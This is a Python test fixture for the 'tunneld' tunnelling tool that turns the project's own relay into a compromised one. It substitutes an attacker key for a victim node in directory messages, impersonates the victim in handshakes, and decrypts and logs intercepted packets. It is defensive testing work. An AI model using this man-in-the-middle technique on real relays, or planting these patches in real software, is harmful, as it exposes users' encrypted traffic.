"""A compromised relay, for the tests: `python -m tests.lab.evil_relay serve ...` runs tunneld's
own relay with two changes that an attacker who owns the relay host would make.

  - In every directory message it sends, the node named $EVIL_VICTIM gets the attacker's
    key instead of its own (its lock chain, if any, stays: the attacker cannot make one).
  - A handshake relayed towards the victim's address is answered by the relay itself, as the
    victim, with the attacker's key; what then arrives on that session is decrypted, and each
    packet's length and first bytes are written to $EVIL_LOG ("INTERCEPTED ...").

Everything else is the real relay. It lives in tests/: it is never part of the wheel.
"""

from __future__ import annotations

import os
import sys

from tunneld.control.directory import Directory
from tunneld.engine import relay as relay_module
from tunneld.proto import messages, wire
from tunneld.proto.handshake import Identity, read_initiation
from tunneld.proto.version import OURS

VICTIM = os.environ.get("EVIL_VICTIM", "")
LOG = os.environ.get("EVIL_LOG", os.devnull)
ATTACKER = Identity.generate()
_sessions: dict[bytes, object] = {}  # our receiver index -> Session, for handshakes we answered
_next_index = [0x7E000000]


def _record(line: str) -> None:
    with open(LOG, "a") as f:
        f.write(line + "\n")


def _victim_addr(relay) -> bytes | None:
    m = next((m for m in relay.members.values() if m.name == VICTIM), None)
    return None if m is None else m.addr


_real_control = relay_module.Relay._control
_real_receive = relay_module.Relay.receive


def _control(self, m, msg: dict) -> None:
    if msg.get("t") == "dir":
        msg = dict(msg, nodes=[[e[0], e[1], ATTACKER.public if e[0] == VICTIM else e[2], *e[3:]]
                               for e in msg["nodes"]])
    _real_control(self, m, msg)


def _receive(self, data: bytes, ep, now: float) -> None:
    victim = _victim_addr(self)
    if victim is not None and data[:1] == bytes((wire.RELAYED,)) and data[4:8] == victim and \
            ep in self.by_endpoint and len(data) > wire.RELAYED_HEADER_LEN:
        inner = data[wire.RELAYED_HEADER_LEN:]
        if inner[0] == wire.INIT:
            try:
                incoming = read_initiation(ATTACKER, inner)
            except Exception:
                return _real_receive(self, data, ep, now)  # not for our key: let it pass
            _next_index[0] += 1
            index = _next_index[0].to_bytes(4, "big")
            resp, session = incoming.accept(index, messages.encode_hello(OURS), now)
            _sessions[index] = session
            _record(f"ANSWERED a handshake for {VICTIM} from {self.by_endpoint[ep].name}")
            self.send(ep, wire.relayed_header(victim) + resp)
            return None
        if inner[0] == wire.DATA and inner[4:8] in _sessions:
            plaintext = _sessions[inner[4:8]].open(inner)
            if plaintext is not None:
                _record(f"INTERCEPTED {len(plaintext)} bytes from {self.by_endpoint[ep].name}: "
                        f"{plaintext[:20].hex()}")
            return None
    return _real_receive(self, data, ep, now)


def _encoded(self, msgs: list) -> list:
    return [messages.encode(dict(msg, nodes=[[e[0], e[1], ATTACKER.public if e[0] == VICTIM else e[2], *e[3:]]
                                              for e in msg["nodes"]])) for msg in msgs]


relay_module.Relay._control = _control
Directory.encoded = _encoded  # what every directory message goes out as
relay_module.Relay.receive = _receive

if __name__ == "__main__":
    from tunneld.cli import main
    sys.exit(main(sys.argv[1:]))
